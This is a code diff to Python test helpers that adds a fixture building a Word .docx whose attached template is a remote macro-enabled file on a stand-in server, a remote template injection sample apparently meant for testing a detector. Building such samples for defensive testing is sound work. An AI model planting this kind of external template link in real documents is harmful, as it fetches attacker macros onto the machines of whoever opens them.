@@ -88,6 +88,16 @@ def docx(**members: bytes) -> bytes:
     return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>", **members})
 
 
+def remote_template() -> bytes:
+    """A Word file whose template, and its macros, lie on somebody's server."""
+    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    relation = (
+        b'<Relationship Id="r1" Type="%s" Target="https://elsewhere.example/t.dotm" TargetMode="External"/>' % kind
+    )
+    space = b"http://schemas.openxmlformats.org/package/2006/relationships"
+    return docx(**{"word/_rels/settings.xml.rels": b'<Relationships xmlns="%s">%s</Relationships>' % (space, relation)})
+
+
 def archive(members: dict[str, bytes]) -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
